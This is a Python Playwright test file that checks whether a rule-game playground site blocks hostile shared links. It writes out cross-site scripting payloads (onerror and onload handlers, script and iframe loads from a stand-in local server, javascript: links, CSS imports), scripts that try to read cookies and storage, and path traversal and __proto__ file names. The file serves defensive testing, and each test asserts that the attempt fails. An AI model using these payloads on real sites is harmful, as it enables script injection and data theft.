"""Malicious games and links, in Chromium: no script runs, no other server is contacted, nothing else is read."""

from __future__ import annotations

import base64
import json
import zlib
from collections.abc import Iterator
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import ConsoleMessage, Error, Page, expect

from rulewright.cli.commands.hosting.serve import load_rules, rule_texts
from rulewright.playground.site import example_of, write_site
from tests.browser import PATIENCE, files_served, launch_browser
from tests.playground.pages import choose, inside, match_of, wait_until_ready
from tests.waiting import serving

pytestmark = [pytest.mark.browser, pytest.mark.slow]


@pytest.fixture(scope="module")
def asked() -> Iterator[tuple[str, list[str]]]:
    """Another server, and the requests that it received."""
    heard: list[str] = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Other, heard))
    with serving(server):
        yield f"http://127.0.0.1:{server.server_port}/", heard


class _Other(BaseHTTPRequestHandler):
    def __init__(self, heard: list[str], *more: Any) -> None:
        self.heard = heard
        super().__init__(*more)

    def do_GET(self) -> None:
        """Answer everybody."""
        self.heard.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        """Nothing is written down."""


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    out = tmp_path_factory.mktemp("site")
    game = load_rules("tic_tac_toe")
    write_site(out, {"tic_tac_toe": example_of(game, rule_texts(game))})
    with files_served(out) as found:
        yield found


@pytest.fixture(scope="module")
def visitor(address: str) -> Iterator[Page]:
    with launch_browser() as browser:
        context = browser.new_context()
        context.set_default_timeout(PATIENCE)
        yield context.new_page()
        context.close()


@pytest.fixture
def page(visitor: Page) -> Iterator[Page]:
    """One visitor with a secret in the storage of the page; the console must have no errors."""
    wrong: list[str] = []

    def console(message: ConsoleMessage) -> None:
        if message.type == "error":
            wrong.append(message.text)

    def note_failure(failure: Error) -> None:
        wrong.append(str(failure))

    visitor.goto("about:blank")
    visitor.on("console", console)
    visitor.on("pageerror", note_failure)
    yield visitor
    visitor.remove_listener("console", console)
    visitor.remove_listener("pageerror", note_failure)
    visitor.goto("about:blank")
    assert wrong == []


def link(address: str, text: str) -> str:
    squeezed = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = squeezed.compress(text.encode()) + squeezed.flush()
    return f"{address}#game={base64.urlsafe_b64encode(data).decode().rstrip('=')}"


def link_to(address: str, files: dict[str, str], main: str = "example.game") -> str:
    return link(address, json.dumps({"main": main, "files": files}))


def hostile(other: str) -> dict[str, str]:
    """A game that tries, in each of its texts and files, to run a script and to load from another server."""
    tries = f"<img src='{other}image' onerror='top.hit=1'><script src='{other}script'></script>"
    tries += f"<svg onload='top.hit=1'><a href='javascript:top.hit=1'>{other}</a></svg></main>"
    picture = (
        "<svg xmlns='http://www.w3.org/2000/svg' onload='top.hit=1'>"
        f"<script href='{other}inside'>top.hit=1</script><image href='{other}art' width='9' height='9'/>"
        f"<foreignObject><iframe src='{other}frame'/></foreignObject></svg>"
    )
    style = (
        f"@import url({other}import); @font-face {{ font-family: x; src: url({other}font) }}\n"
        f"body {{ background: url({other}background) }} </style>{tries}\n"
        "#status, .rw-question { position: fixed; inset: 0 } b { color: red }\n"
    )
    rules = f'''
game "{tries}"
    players 2
    by "{tries}"
    rulebook "example.rules.md"

kind Sign = cross "{tries}", nought "javascript:top.hit=1"

space Cell grid 2 by 2
    state sign: Sign or nothing = nothing

board Cell
    show "{{cell.sign}} {tries}"

action mark(cell in Cell)
    say "mark {{cell}} {tries}"
    needs cell.sign is nothing else "{tries}"
    set cell.sign to cross

play
    repeat 2 times
        each player
            surely do mark prompt "{tries}"
            log "{tries}"
'''
    return {
        "example.game": rules,
        "example.css": style,
        "example.places.csv": f"row,x,y\n{tries.replace(',', ';')},0,0\n",
        "example.art/a1.svg": picture,
        "example.rules.md": f"# {tries}\n\nEX-1 {tries} [here]({other}link)\n",
    }


def test_a_game_runs_no_script_and_loads_nothing(
    page: Page, address: str, asked: tuple[str, list[str]]
) -> None:
    other, heard = asked
    page.goto(address)
    wait_until_ready(page)
    page.evaluate("localStorage.setItem('another game', 'its secret')")
    page.goto("about:blank")
    page.goto(link_to(address, hostile(other)))
    wait_until_ready(page)
    frame = inside(page)
    expect(frame.locator("#question")).to_contain_text("<script")
    choose(page)
    expect(page.locator("#undo")).to_be_enabled()
    for name in ("Why not?", "Score", "Rules"):
        page.get_by_role("button", name=name, exact=True).click()
        page.locator("#answer").get_by_role("button", name="Close").click()
    page.get_by_role("button", name="Check", exact=True).click()
    expect(page.locator("#output")).to_contain_text("rulewright check")
    expect(page.locator("#output")).not_to_contain_text("Working")
    assert frame.locator("script, iframe, [onerror], [onload]").count() == 2, "the scripts of ours"
    assert page.evaluate("globalThis.hit") is None
    assert heard == []


READS = """() => {
  const tried = (read) => { try { return String(read()); } catch (failure) { return failure.name; } };
  return [origin, tried(() => localStorage.length), tried(() => parent.document.title),
    tried(() => document.cookie), tried(() => top.location.href), tried(() => indexedDB.open("x") && "opened")];
}"""
ASKS = """async (other) => {
  const tried = (promise) => promise.then(() => "loaded", (failure) => failure.name);
  const asks = [fetch(other), fetch(other, { mode: "no-cors" }), import(`${other}module.js`)];
  return Promise.all(asks.map(tried));
}"""


def test_even_a_script_in_the_picture_would_reach_nothing(
    visitor: Page, address: str, asked: tuple[str, list[str]]
) -> None:
    other, heard = asked  # its attempts appear on the console, so this is not a `page`
    visitor.goto(f"{address}#example=tic_tac_toe")
    wait_until_ready(visitor)
    frame = match_of(visitor)
    assert frame.evaluate(READS) == ["null", *["SecurityError"] * 5]
    own = frame.evaluate(
        "() => { const one = document.createElement('script'); one.textContent = 'globalThis.hit = 1';"
        " document.body.append(one); return globalThis.hit; }"
    )
    assert own is None
    refused = ["TypeError"] * 3
    assert frame.evaluate(ASKS, other) == refused
    frame.evaluate(  # the refused form may leave an empty frame, so this comes last
        "other => { const one = new Image(); one.src = `${other}image`; document.body.append(one);"
        " const form = document.createElement('form'); form.action = `${other}form`; document.body.append(form);"
        " form.submit(); open(`${other}window`); }",
        other,
    )
    assert visitor.workers
    for worker in visitor.workers:
        assert worker.evaluate(ASKS, other) == refused, "a worker has the policy of the page"
    assert visitor.evaluate(ASKS, other) == refused
    assert heard == []


WRONG_LINKS = {
    "no base64": "#game=%%%",
    "no packed text": "#game=AAAA",
    "no JSON": link("", "{"),
    "no game": link("", "null"),
    "no files": link("", '{"main": "example.game"}'),
    "a file elsewhere": link_to("", {"example.game": "", "../../lib/x.game": "game"}),
    "an absolute name": link_to("", {"/etc/x.game": ""}, "/etc/x.game"),
    "another kind of file": link_to("", {"example.game": "", "x.py": "import os"}),
    "no text": link("", '{"main": "example.game", "files": {"example.game": 7}}'),
    "the name of a part of objects": link("", '{"main": "__proto__", "files": {"__proto__": ""}}'),
    "too large": link("", json.dumps({"main": "x.game", "files": {"x.game": "#" * 5_000_000}})),
}
REFUSED = {"no packed text", "a file elsewhere", "no text", "too large"}
"""One link for each place that refuses: unpacking, names of files, values, and limits."""


@pytest.mark.parametrize(
    "name",
    [pytest.param(name, marks=() if name in REFUSED else pytest.mark.deep) for name in WRONG_LINKS],
)
def test_wrong_links_say_so_and_leave_the_page_in_use(page: Page, address: str, name: str) -> None:
    page.goto(f"{address}{WRONG_LINKS[name]}")
    expect(page.locator("#note")).to_contain_text("This link holds no game:")
    wait_until_ready(page)


def test_work_without_end_is_stopped_and_the_match_goes_on(page: Page, address: str) -> None:
    page.goto(f"{address}#example=tic_tac_toe")
    wait_until_ready(page)
    taken = inside(page).locator(".rw-options button", has_text="b2")
    choose(page, taken)
    page.locator("#command-line").fill("simulate --games 1000000000")
    page.locator("#command").get_by_role("button", name="Run").click()
    page.locator("#stop").click()
    expect(page.locator("#output")).to_have_text("$ rulewright simulate --games 1000000000 stopped")
    wait_until_ready(page)
    expect(page.locator("#undo")).to_be_enabled()
    expect(taken).to_have_count(0)
